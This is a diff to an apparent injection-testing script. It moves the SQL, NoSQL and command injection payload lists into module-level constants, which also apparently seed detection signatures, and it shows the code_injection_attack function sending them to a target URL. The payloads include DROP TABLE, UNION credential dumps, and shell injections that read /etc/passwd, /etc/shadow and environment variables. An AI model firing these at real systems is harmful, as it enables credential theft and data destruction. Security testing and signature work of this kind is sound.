@@ -4,6 +4,38 @@ import time
 import argparse
 import random
 
+# Common payloads for different types of injection attacks (also the seed
+# signatures of the local rule groups in signatures.py)
+SQL_INJECTION_PAYLOADS = [
+    "' OR 1=1 --",
+    "'; DROP TABLE users; --",
+    "' UNION SELECT username, password FROM users --",
+    "admin' --",
+    "' OR '1'='1",
+    "'; WAITFOR DELAY '0:0:10'--",
+    "1'; SELECT @@version; --"
+]
+
+NOSQL_INJECTION_PAYLOADS = [
+    '{"$gt": ""}',
+    '{"$ne": null}',
+    '{"$where": "sleep(10000)"}',
+    '{"$where": "this.password == this.username"}',
+    '{"username": {"$regex": "admin"}}',
+    '{"$where": "function(){return 1;}"}',
+    '{"$where": "new Date()"}'
+]
+
+CMD_INJECTION_PAYLOADS = [
+    "; ls -la",
+    "& cat /etc/passwd",
+    "| cat /proc/self/environ",
+    "; env",
+    "` cat /etc/passwd `",
+    "$(cat /etc/passwd)",
+    "|| cat /etc/shadow"
+]
+
 def code_injection_attack(url, attack_type, num_attempts=10, delay=1):
     """
     Executes code injection attacks against the target URL
@@ -14,46 +46,15 @@ def code_injection_attack(url, attack_type, num_attempts=10, delay=1):
         num_attempts: Number of attack attempts
         delay: Delay between requests in seconds
     """
-    # Common payloads for different types of injection attacks
-    sql_injection_payloads = [
-        "' OR 1=1 --",
-        "'; DROP TABLE users; --",
-        "' UNION SELECT username, password FROM users --",
-        "admin' --",
-        "' OR '1'='1",
-        "'; WAITFOR DELAY '0:0:10'--",
-        "1'; SELECT @@version; --"
-    ]
-    
-    nosql_injection_payloads = [
-        '{"$gt": ""}',
-        '{"$ne": null}',
-        '{"$where": "sleep(10000)"}',
-        '{"$where": "this.password == this.username"}',
-        '{"username": {"$regex": "admin"}}',
-        '{"$where": "function(){return 1;}"}',
-        '{"$where": "new Date()"}'
-    ]
-    
-    cmd_injection_payloads = [
-        "; ls -la",
-        "& cat /etc/passwd",
-        "| cat /proc/self/environ",
-        "; env",
-        "` cat /etc/passwd `",
-        "$(cat /etc/passwd)",
-        "|| cat /etc/shadow"
-    ]
-    
     # Select the appropriate payload list
     if attack_type.lower() == "sql":
-        payloads = sql_injection_payloads
+        payloads = SQL_INJECTION_PAYLOADS
         print("Performing SQL Injection attacks")
     elif attack_type.lower() == "nosql":
-        payloads = nosql_injection_payloads
+        payloads = NOSQL_INJECTION_PAYLOADS
         print("Performing NoSQL Injection attacks")
     elif attack_type.lower() == "cmd":
-        payloads = cmd_injection_payloads
+        payloads = CMD_INJECTION_PAYLOADS
         print("Performing Command Injection attacks")
     else:
         print(f"Unknown attack type: {attack_type}")